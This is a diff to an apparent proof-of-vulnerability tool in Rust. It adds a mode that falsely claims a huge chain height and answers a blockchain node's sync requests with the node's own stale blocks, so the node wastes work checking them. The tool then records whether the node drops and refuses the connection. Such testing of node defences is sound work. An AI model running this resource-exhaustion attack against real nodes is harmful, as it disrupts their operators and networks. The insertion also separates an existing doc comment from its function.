@@ -32,6 +32,12 @@
 //!   serves block sync, and answers every sync request the target sends it with a frame of
 //!   17 MiB (over the 16 MiB message limit); prints how many requests it got and answered,
 //!   whether the target closed the connection, and whether it refused a new one.
+//! - `sync-answer-stuffed MULTIADDR GENESIS_HEX SECS`: fetches the target's own first blocks
+//!   (real blocks with real certificates, heights the target holds), then claims a far
+//!   greater height in its sync status and answers the target's request for the blocks above
+//!   its head with those stored ones instead; prints how many bytes of blocks it fetched, how
+//!   many requests it got and answered with them, whether the target closed the connection,
+//!   and whether it refused a new one.
 
 use std::collections::HashSet;
 use std::io::Read;
@@ -58,6 +64,7 @@ fn main() {
         Some("gossip") => run_async(gossip_abuse(&args[1..])),
         Some("sync-bad") => run_async(sync_bad(&args[1..])),
         Some("sync-answer-oversized") => run_async(sync_answer_oversized(&args[1..])),
+        Some("sync-answer-stuffed") => run_async(sync_answer_stuffed(&args[1..])),
         _ => {
             Err("usage: pov-attack tcp-hold|libp2p-hold|sync-flood ARGS... (see the source)".into())
         }
@@ -720,6 +727,89 @@ async fn sync_bad(args: &[String]) -> Result<()> {
 }
 
 /// Answers the target's block-sync requests with a frame over its message limit.
+/// A sync reply stuffed with heights the target already holds: the target's own blocks
+/// (real, certified, cheap to send) given back as the answer to a request for heights above
+/// its head. An honest node never sends one; checking it block by block would cost the target
+/// a store read each.
+async fn sync_answer_stuffed(args: &[String]) -> Result<()> {
+    let target: Multiaddr = arg(args, 0, "MULTIADDR")?;
+    let genesis: String = arg(args, 1, "GENESIS_HEX")?;
+    let secs: u64 = arg(args, 2, "SECS")?;
+    let genesis_bytes = (0..32)
+        .map(|i| u8::from_str_radix(&genesis[2 * i..2 * i + 2], 16))
+        .collect::<std::result::Result<Vec<u8>, _>>()
+        .map_err(|e| format!("GENESIS_HEX: {e}"))?;
+    // postcard of SyncResponse::Status { genesis, height: 2^40 }: variant 0, the hash's 32
+    // bytes, the height as a varint.
+    let mut status = vec![0u8];
+    status.extend_from_slice(&genesis_bytes);
+    status.extend_from_slice(&varint(1 << 40));
+    // postcard of SyncRequest::Blocks { from: 1, to: u64::MAX }, as in `sync_flood`.
+    let mut fetch = vec![1u8, 1];
+    fetch.extend_from_slice(&[0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x01]);
+    let mut swarm = swarm_with(&genesis, request_response::ProtocolSupport::Full)?;
+    swarm
+        .dial(DialOpts::unknown_peer_id().address(target.clone()).build())
+        .map_err(|e| format!("dial: {e}"))?;
+    let deadline = tokio::time::Instant::now() + Duration::from_secs(secs);
+    let mut stored: Option<Vec<u8>> = None;
+    let (mut asked, mut answered, mut closed) = (0u64, 0u64, false);
+    // The target answers only once its chain check of us is done, and rations answers per
+    // peer: ask again every half second until the blocks are in hand.
+    let mut peer = None;
+    let mut retry = tokio::time::interval(Duration::from_millis(500));
+    loop {
+        tokio::select! {
+            _ = tokio::time::sleep_until(deadline) => break,
+            _ = retry.tick() => {
+                if let (Some(peer), None) = (peer, &stored) {
+                    swarm.behaviour_mut().sync.send_request(&peer, fetch.clone());
+                }
+            }
+            event = swarm.select_next_some() => match event {
+                SwarmEvent::ConnectionEstablished { peer_id, .. } => peer = Some(peer_id),
+                SwarmEvent::Behaviour(AttackerEvent::Sync(request_response::Event::Message {
+                    message: request_response::Message::Response { response, .. }, ..
+                })) if response.first() == Some(&1) => stored = Some(response),
+                SwarmEvent::Behaviour(AttackerEvent::Sync(request_response::Event::Message {
+                    message: request_response::Message::Request { request, channel, .. }, ..
+                })) => {
+                    // Status first (claim to be far ahead), then the stored blocks for
+                    // whatever heights the target asks; nothing before the blocks are in hand.
+                    let reply = match (request.first(), &stored) {
+                        (Some(0), _) => Some(status.clone()),
+                        (Some(1), Some(blocks)) => {
+                            asked += 1;
+                            Some(blocks.clone())
+                        }
+                        _ => None,
+                    };
+                    if let Some(reply) = reply {
+                        let blocks = reply.len() != status.len();
+                        if swarm.behaviour_mut().sync.send_response(channel, reply).is_ok() && blocks {
+                            answered += 1;
+                        }
+                    }
+                }
+                SwarmEvent::ConnectionClosed { num_established: 0, .. } if answered > 0 => {
+                    closed = true;
+                    break;
+                }
+                _ => {}
+            }
+        }
+    }
+    let refused = closed && redial_refused(&mut swarm, &target).await;
+    println!(
+        "sync-answer-stuffed: fetched {} bytes, asked {asked}, answered {answered}, closed {}, \
+         redial refused {}",
+        stored.as_ref().map_or(0, Vec::len),
+        u8::from(closed),
+        u8::from(refused)
+    );
+    Ok(())
+}
+
 async fn sync_answer_oversized(args: &[String]) -> Result<()> {
     let target: Multiaddr = arg(args, 0, "MULTIADDR")?;
     let genesis: String = arg(args, 1, "GENESIS_HEX")?;
